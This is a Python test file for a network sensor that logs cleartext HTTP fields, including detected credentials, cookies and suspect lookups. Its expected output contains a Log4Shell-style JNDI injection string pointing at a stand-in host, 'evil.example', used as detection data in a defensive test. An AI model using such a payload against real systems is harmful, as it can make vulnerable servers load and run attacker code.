"""The line of cleartext.log, field by field."""

from __future__ import annotations

import msgspec

from sensor.http.cleartext import Cleartext
from tests.logs.observations import CLEARTEXT, FLOW, make_writer


def record(seen: Cleartext, **options: object) -> dict[str, object]:
    writer, sink = make_writer(**options)
    writer.cleartext(seen)
    writer.close()
    (found,) = sink.records("cleartext")
    return found


def test_all_fields() -> None:
    found = record(CLEARTEXT)
    assert list(found)[:6] == ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p"]
    assert found["uid"] == FLOW.uid
    assert {name: value for name, value in found.items() if name not in list(found)[:6]} == {
        "trans_depth": 1,
        "method": "GET",
        "host": "shop.example",
        "uri": "/a b?token=1",
        "user_agent": "curl/8",
        "status_code": 200,
        "resp_content_type": "text/html",
        "credentials": ["header:basic", "query:token"],
        "cookies": ["id", "\\xff"],
        "set_cookies": ["id"],
        "lookups": ["jndi:ldap://evil.example/a"],
        "suspect": ["user-agent: ${jndi:ldap://evil.example/a}"],
        "ocsp_claims": ["host"],
    }


def test_what_is_not_there_is_left_out() -> None:
    bare = Cleartext(FLOW, CLEARTEXT.ts, 7, None, None, None, None, None, None, None, ocsp_claims=("path",))
    assert set(record(bare)) - {"ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p"} == {
        "trans_depth",
        "ocsp_claims",
    }


def test_long_texts_are_cut() -> None:
    long = msgspec.structs.replace(CLEARTEXT, suspect=(b"x" * 5000,), target=b"/" + b"y" * 5000)
    found = record(long, max_field_bytes=100)
    assert len(found["uri"]) <= 100  # type: ignore[arg-type]  # it is text
    assert [len(text) for text in found["suspect"]] == [100]  # type: ignore[attr-defined]  # a list
